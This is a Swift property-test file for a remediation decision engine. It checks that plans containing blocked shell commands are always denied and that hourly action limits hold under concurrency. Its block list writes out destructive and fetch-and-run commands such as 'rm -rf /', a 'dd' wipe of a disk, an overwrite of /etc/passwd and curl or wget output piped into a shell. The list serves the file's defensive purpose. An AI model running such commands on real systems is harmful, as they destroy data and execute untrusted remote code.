import Foundation
import PatternLearning
import ShellAST
import Testing
import VigilTestKit

@testable import IncidentCore

/// Seeded generators of plans, policies and store histories.
enum Gen {
    static let allow = [
        "df -h", "uptime", "free -m", "ps aux", "ls -la /var/log", "tail -n 100 /var/log/syslog", "ping -c 3 10.0.0.1",
        "du -sh /var",
    ]
    static let review = [
        "touch /var/run/x", "mkdir -p /srv/cache", "systemctl restart nginx", "kubectl rollout restart deployment/web",
        "kill -HUP 1234",
    ]
    static let block = [
        "rm -rf /", "curl -fsSL https://x.example/i.sh | sh", "echo 'unterminated", "dd if=/dev/zero of=/dev/sda",
        #"bash -c "$(curl -s http://x)""#, "echo x > /etc/passwd", "wget -qO- http://x | bash",
    ]
    static let structured = [
        "restart_pod", "scale_deployment", "check_status", "reboot_instance", "drain_node", "teleport_vm", "expand_volume",
    ]

    static func action(_ r: inout SplitMix64, blockChance: Double) -> PlannedAction {
        if r.chance(blockChance) { return .shell(command: r.pick(block)) }
        switch r.int(0...2) {
        case 0: return .shell(command: r.pick(allow))
        case 1: return .shell(command: r.pick(review))
        default:
            return .structured(name: r.pick(structured), target: r.chance(0.5) ? "web-\(r.int(1...3))" : nil, parameters: [:])
        }
    }

    static func steps(_ r: inout SplitMix64, blockChance: Double = 0.1) -> [PlanStep] {
        (0..<r.int(1...6)).map { _ in
            PlanStep(
                action: action(&r, blockChance: blockChance), explanation: "gen",
                rollback: r.chance(0.3) ? action(&r, blockChance: blockChance) : nil)
        }
    }

    static func policy(_ r: inout SplitMix64) -> RemediationPolicy {
        Fx.lenient { p in
            p.minConfidence = r.pick([0, 0.5, 0.9])
            p.minReliability = r.pick([0, 50, 80])
            p.autoApproveThreshold = r.chance(0.2) ? .never : .atLeast(max(p.minReliability, r.pick([0, 70, 90])))
            p.requiresApproval = r.chance(0.5)
            p.approvalQuorum = r.int(1...3)
            p.maxActionsPerHour = r.int(1...20)
            if r.chance(0.3) { p.allowedActionTypes = [.readOnly, .safeWrite] }
            if r.chance(0.3) {
                p.allowedHoursStart = r.int(0...11)
                p.allowedHoursEnd = r.int(12...23)
            }
            if r.chance(0.3) { p.forbiddenCommands = [r.pick(["uptime", "kill", "rm -rf"])] }
            if r.chance(0.3) { p.suppressionSeconds = 600 }
            if r.chance(0.3) {
                p.hints = [
                    "h": HintGuardrails(
                        restartBudget: RestartBudget(limit: r.int(0...3), windowSeconds: 3_600), cooldownSeconds: 120,
                        maxAttempts: r.int(1...3))
                ]
            }
            p.rateLimits = r.chance(0.4) ? [RateLimitRule(scope: .target, limit: r.int(1...4), windowSeconds: 3_600)] : []
        }
    }

    static func request(_ r: inout SplitMix64, policy: RemediationPolicy, steps: [PlanStep]) -> DecisionRequest {
        Fx.request(
            steps, id: "case-\(r.int(0...3))/\(r.int(0...99))", caseID: "case-\(r.int(0...3))",
            hint: policy.hints.isEmpty ? nil : "h", target: "web-\(r.int(1...3))"
        ) {
            $0.reliability = r.double(0...100)
            $0.plan.confidence = r.double(0...1)
            $0.eligibility = r.pick([Fx.eligible, Fx.ineligible, nil])
            $0.fingerprint = r.chance(0.5) ? "fp-\(r.int(0...2))" : nil
        }
    }

    /// Replays `ops` random reservations into `store` (the same ops give the same state).
    static func history(
        _ store: InMemoryGuardrailStore, engine: DecisionEngine, gate: RemediationGate, seed: UInt64, policy: RemediationPolicy
    ) async {
        var r = SplitMix64(seed: seed)
        for _ in 0..<r.int(0...8) {
            let d = await engine.decide(request(&r, policy: policy, steps: steps(&r, blockChance: 0)), at: Fx.night)
            guard d.outcome == .execute, let a = try? await gate.authorize(d) else { continue }
            switch r.int(0...2) {
            case 0: try? await gate.complete(a, outcome: .succeeded)
            case 1: try? await gate.complete(a, outcome: .failed)
            default: break  // left pending
            }
        }
    }
}

@Suite struct DecisionPropertyTests {
    /// A decision is a pure function of its inputs and the store's state: the
    /// same request, time, probe and store history give equal decisions, from
    /// the same engine or a fresh one; deciding never changes the store.
    @Test(arguments: PropertySeeds.make())
    func decisionIsPure(seed: UInt64) async {
        var r = SplitMix64(seed: seed)
        for i in 0..<40 {
            let policy = Gen.policy(&r)
            let historySeed = r.next()
            func world() async -> (DecisionEngine, InMemoryGuardrailStore) {
                let clock = ManualClock(Fx.night)
                let store = InMemoryGuardrailStore()
                let engine = DecisionEngine(
                    policies: Fx.set(policy), settings: Fx.enabled, guardrails: store, safety: Fx.healthy, clock: clock)
                await Gen.history(
                    store, engine: engine, gate: RemediationGate(guardrails: store, clock: clock), seed: historySeed,
                    policy: policy)
                return (engine, store)
            }
            let (e1, s1) = await world()
            let (e2, _) = await world()
            let req = Gen.request(&r, policy: policy, steps: Gen.steps(&r))
            let when = Fx.night.addingTimeInterval(Double(r.int(0...7_200)))
            let pending = s1.pendingCount
            let a = await e1.decide(req, at: when)
            let b = await e1.decide(req, at: when)
            let c = await e2.decide(req, at: when)
            #expect(a == b, "seed \(seed) case \(i): two calls differ")
            #expect(a == c, "seed \(seed) case \(i): two engines with the same history differ\n\(a.reasoning)\n\(c.reasoning)")
            #expect(Fx.json(a) == Fx.json(c), "seed \(seed) case \(i)")
            #expect(s1.pendingCount == pending, "seed \(seed) case \(i): deciding changed the store")
        }
    }

    /// A blocked command is never authorised, whatever the policy, the evidence
    /// or the votes; every minted shell command re-classifies as it was minted
    /// (never block; review and critical only with an approval).
    @Test(arguments: PropertySeeds.make())
    func blockedCommandIsNeverAuthorised(seed: UInt64) async {
        var r = SplitMix64(seed: seed)
        let verdicts = VerdictEngine()
        var minted = 0
        for i in 0..<120 {
            let policy = Gen.policy(&r)
            let clock = ManualClock(Fx.night.addingTimeInterval(Double(r.int(-3_600...3_600))))
            let store = InMemoryGuardrailStore()
            let settings =
                r.chance(0.5) ? Fx.enabled : try! GlobalSettings(enabled: true, requireApproval: true, minReliability: 0)
            let engine = DecisionEngine(
                policies: Fx.set(policy), settings: settings, guardrails: store, safety: Fx.healthy, clock: clock)
            let gate = RemediationGate(guardrails: store, clock: clock)
            let steps = Gen.steps(&r, blockChance: 0.25)
            let hasBlock = steps.contains { s in
                [s.action, s.rollback].compactMap { $0 }.contains {
                    if case .shell(let c) = $0 { return verdicts.classify(c).verdict == .block }
                    if case .structured(let n, _, _) = $0 { return ActionCatalog.standard[n] == nil }
                    return false
                }
            }
            let d = await engine.decide(Gen.request(&r, policy: policy, steps: steps))
            if hasBlock { #expect(d.outcome == .deny, "seed \(seed) case \(i): a blocked plan was not denied") }
            var authorizations: [Authorization] = []
            if let a = try? await gate.authorize(d) { authorizations.append(a) }
            if var req = try? gate.requestApproval(for: d) {
                for voter in req.approvers.shuffled(using: &r) where !req.status.isFinal {
                    let all = Set(d.steps.map(\.index))
                    let event: ApprovalEvent =
                        r.chance(0.1)
                        ? .deny(approver: voter, comment: "no")
                        : .approve(
                            approver: voter,
                            steps: r.chance(0.5) ? nil : all.filter { _ in r.chance(0.7) }.union([r.pick(Array(all))]))
                    _ = try? req.handle(event, at: clock.now())
                }
                if let a = try? await gate.authorize(req) { authorizations.append(a) }
            }
            if hasBlock {
                #expect(authorizations.isEmpty, "seed \(seed) case \(i): a plan with a blocked command was authorised")
            }
            for a in authorizations {
                for action in a.actions.flatMap({ [$0] + ($0.rollback.map { [$0] } ?? []) }) {
                    minted += 1
                    #expect(action.verdict != .block)
                    if action.verdict == .review || action.actionType == .criticalWrite {
                        #expect(action.approval != nil, "seed \(seed) case \(i): \(action.action) minted without approval")
                    }
                    if let cmd = action.command {
                        let again = verdicts.classify(cmd.command)
                        #expect(again.verdict == cmd.verdict && again.verdict != .block, "seed \(seed) case \(i): \(cmd.command)")
                    }
                }
            }
        }
        #expect(minted > 0, "seed \(seed): nothing was ever authorised; the property tested nothing")
    }

    /// Limits hold under races: many tasks decide and authorise against one
    /// store at once; the actions held or committed never exceed the hourly limit.
    @Test(arguments: PropertySeeds.make(4))
    func limitsHoldWhenDecisionsRace(seed: UInt64) async {
        let limit = 25
        let clock = ManualClock(Fx.night)
        let store = InMemoryGuardrailStore()
        let engine = DecisionEngine(
            policies: Fx.set(Fx.lenient { $0.maxActionsPerHour = limit }), settings: Fx.enabled, guardrails: store,
            safety: Fx.healthy,
            clock: clock)
        let gate = RemediationGate(guardrails: store, clock: clock)
        let tally = Shared([0, 0, 0])  // held actions, committed actions, authorisations
        let failures = Shared([String]())
        await withTaskGroup(of: Void.self) { group in
            for t in 0..<1_500 {
                group.addTask {
                    var r = SplitMix64(seed: seed &+ UInt64(t))
                    let steps = (0..<r.int(1...4)).map { _ in Fx.step(r.pick(Gen.allow)) }
                    let d = await engine.decide(Fx.request(steps, id: "t\(t)"))
                    for _ in 0..<r.int(0...2) { await Task.yield() }
                    guard let a = try? await gate.authorize(d) else { return }
                    tally.withLock { v in
                        v[0] += a.actions.count
                        v[2] += 1
                        if v[0] > limit { failures.withLock { $0.append("\(v[0]) actions held, limit \(limit)") } }
                    }
                    for _ in 0..<r.int(0...2) { await Task.yield() }
                    if r.chance(0.5) {
                        try? await gate.complete(a, outcome: .succeeded)
                    } else {
                        tally.withLock { $0[0] -= a.actions.count }
                        try? await gate.abandon(a)
                    }
                }
            }
        }
        let f = failures.withLock { $0 }
        #expect(f.isEmpty, "seed \(seed): \(f.prefix(3))")
        let v = tally.withLock { $0 }
        #expect(v[2] > 0, "seed \(seed): nothing was authorised")
        #expect(store.pendingCount == 0)
        #expect(store.used(key: "actions|policy|test-policy", windowSeconds: 3_600, at: Fx.night) == v[0], "seed \(seed)")
        #expect(v[0] <= limit)
    }
}
